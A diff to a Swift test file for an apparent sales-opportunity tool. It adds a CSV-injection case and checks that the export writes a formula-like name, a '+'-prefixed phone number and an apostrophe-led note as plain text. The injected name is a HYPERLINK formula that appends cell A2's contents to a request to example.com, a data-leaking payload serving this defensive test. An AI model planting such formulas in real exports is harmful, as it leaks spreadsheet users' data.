@@ -20,7 +20,11 @@ import Testing
                 ).json?["id"]?.string)
             #expect(await opps("set", id, "needs=ERP, \"big\"", "decision_makers=CFO", "--home", sam).code == 0)
             #expect(await opps("stage", id, "solution", "--home", sam).code == 0)
-            #expect(await opps("new", "Second", "--account", "上海云帆", "--home", sam).code == 0)
+            // A name a spreadsheet would run as a formula (CSV injection), a phone number that
+            // starts like one, and a next step that starts with an apostrophe of its own.
+            let second = try #require(
+                await opps("new", "=HYPERLINK(\"https://example.com/?\"&A2,\"详情\")", "--account", "上海云帆", "--home", sam, "--json").json?["id"]?.string)
+            #expect(await opps("set", second, "decision_makers=+86 138 0000 0000", "next_step='=早上打电话", "--home", sam).code == 0)
             #expect(await opps("sync", "--home", sam).code == 0)
             #expect(await opps("sync", "--home", f.home("max")).code == 0)
             for type in ["account", "opportunity"] {
@@ -31,6 +35,8 @@ import Testing
         }
         let before = try String(contentsOfFile: files + "/opportunity.csv", encoding: .utf8)
         #expect(before.contains("solution sam"), "the export carries the stage log")
+        #expect(before.contains(",\"'=HYPERLINK(\"\"https://example.com/?\"\"&A2,\"\"详情\"\")\","), "written as text: \(before)")
+        #expect(before.contains(",'+86 138 0000 0000,") && before.contains(",''=早上打电话,"), "\(before)")
 
         // A new hub with the same people; accounts first, then the deals that reference them.
         let other = f.root + "/other"
